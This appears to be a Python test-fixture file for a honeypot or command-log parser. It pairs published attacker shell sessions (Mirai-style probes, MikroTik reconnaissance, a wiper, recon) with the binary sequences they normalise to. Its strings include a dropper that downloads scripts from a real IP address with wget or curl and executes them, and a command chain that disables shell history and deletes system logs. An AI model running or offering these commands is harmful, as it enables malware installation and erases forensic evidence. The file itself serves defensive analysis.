"""Published attacker command listings and the binary sequences they must normalize to."""

DROPPER = (
    "cd /tmp; rm -f *.sh; wget http://46.246.41.29/wget.sh || curl http://46.246.41.29/curl.sh -o curl.sh; "
    "chmod +x *.sh; ./wget.sh; ./curl.sh"
)
DROPPER_SEQ = ["cd", "rm", "wget", "curl", "chmod", "./wget.sh", "./curl.sh"]

HISTORY_WIPE = (
    "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; export HISTFILE=/dev/null ; "
    "export HISTSIZE=0; export HISTFILESIZE=0 ; rm -rf /var/log/wtmp ; rm -rf /var/log/lastlog ; rm -rf /var/log/secure; "
    "rm -rf /var/log/xferlog ; rm -rf /var/log/messages ; rm -rf /var/run/utmp ; touch /var/run/utmp ; "
    "touch /var/log/messages ; touch /var/log/wtmp ; touch /var/log/messages ; touch /var/log/xferlog ; "
    "touch /var/log/secure ;  touch /var/log/lastlog ; rm -rf /var/log/maillog ; touch /var/log/maillog ; "
    "rm -rf /root/.bash_history ; touch /root/.bash_history ; history -r"
)
HISTORY_WIPE_SEQ = (
    ["unset", "history", "export", "export", "export"]
    + ["rm"] * 6
    + ["touch"] * 7
    + ["rm", "touch", "rm", "touch", "history"]
)


def nippon(path: str) -> str:
    target = path + "/.nippon"
    return f"echo -e '\\x47\\x72\\x6f\\x70{path}' > {target}; cat {target}; rm -f {target}"


NIPPON_DIRS = ["/", "/tmp", "/var/tmp", "/", "/lib/init/rw", "/proc", "/sys", "/dev", "/dev/shm", "/dev/pts"]

# (command list, expected flattened binary sequence)
SCRIPTS = {
    "mirai": (
        ["/gisdfoewrsfdf", "/bin/busybox cp; /gisdfoewrsfdf", "mount ;/gisdfoewrsfdf"]
        + [nippon(p) for p in NIPPON_DIRS]
        + ["/gisdfoewrsfdf", "cat /bin/echo ;/gisdfoewrsfdf"],
        ["gisdfoewrsfdf", "busybox", "gisdfoewrsfdf", "mount", "gisdfoewrsfdf"]
        + ["echo", "cat", "rm"] * len(NIPPON_DIRS)
        + ["gisdfoewrsfdf", "cat", "gisdfoewrsfdf"],
    ),
    "microtik": (
        [
            "/ip cloud print",
            "ifconfig",
            "uname -a",
            "cat /proc/cpuinfo",
            "ps | grep [Mm]iner",
            "ps -ef | grep [Mm]iner",
            "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* "
            "/usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*",
            "echo Hi | cat -n",
        ],
        ["ip", "ifconfig", "uname", "cat", "ps", "grep", "ps", "grep", "ls", "echo", "cat"],
    ),
    "dropper": (
        [f'echo "{DROPPER}" | sh', DROPPER + "\n"],
        ["echo", "sh"] + DROPPER_SEQ,
    ),
    "wiper": (
        [HISTORY_WIPE, "uname", "free -m", "ps -x", "cat /proc/cpuinfo"],
        HISTORY_WIPE_SEQ + ["uname", "free", "ps", "cat"],
    ),
    "recon": (
        ["shell", "uname -r", "id", "id", "ls -la /usr/bin/curl", "ps ax|grep dhc", "uname -s -m",
         "cat /proc/version;cat /proc/cpuinfo"],
        ["shell", "uname", "id", "id", "ls", "ps", "grep", "uname", "cat", "cat"],
    ),
}
